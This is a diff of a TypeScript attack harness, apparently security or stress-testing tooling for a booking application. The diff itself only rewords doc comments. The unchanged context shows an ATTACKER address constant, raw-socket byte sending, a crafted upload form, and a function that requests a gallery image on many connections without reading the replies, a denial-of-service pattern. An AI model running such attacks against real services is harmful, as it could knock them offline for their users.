@@ -9,7 +9,7 @@ const ATTACKER = '198.51.100.1';
 
 export interface Target {
   url: string;
-  /** Ids of bookings that have an alert. */
+  /** Ids of bookings with an alert. */
   bookings: readonly string[];
 }
 
@@ -20,7 +20,10 @@ interface Attack {
   run: (target: Target) => Promise<unknown>;
 }
 
-/** Sends bytes over a connection and waits until the server ends it, or until `answers` answers have come. */
+/**
+ * Sends bytes over a connection and waits until the server closes it, or until `answers` answers
+ * arrived.
+ */
 async function sendBytes(url: string, bytes: string | Buffer, answers: number): Promise<void> {
   const { hostname, port } = new URL(url);
   const socket = connect(Number(port), hostname).on('error', () => undefined);
@@ -85,7 +88,7 @@ function formOfHeaders(): Buffer {
   return Buffer.concat([Buffer.from(uploadHead(type, body.byteLength)), body]);
 }
 
-/** Asks for a picture again and again on many connections, and reads nothing. */
+/** Requests a picture repeatedly on many connections and reads no answer. */
 async function readNothing({ url }: Target): Promise<void> {
   const answer = await fetch(`${url}/rest/v1/gallery_images?select=url&limit=1`, {
     headers: { apikey },
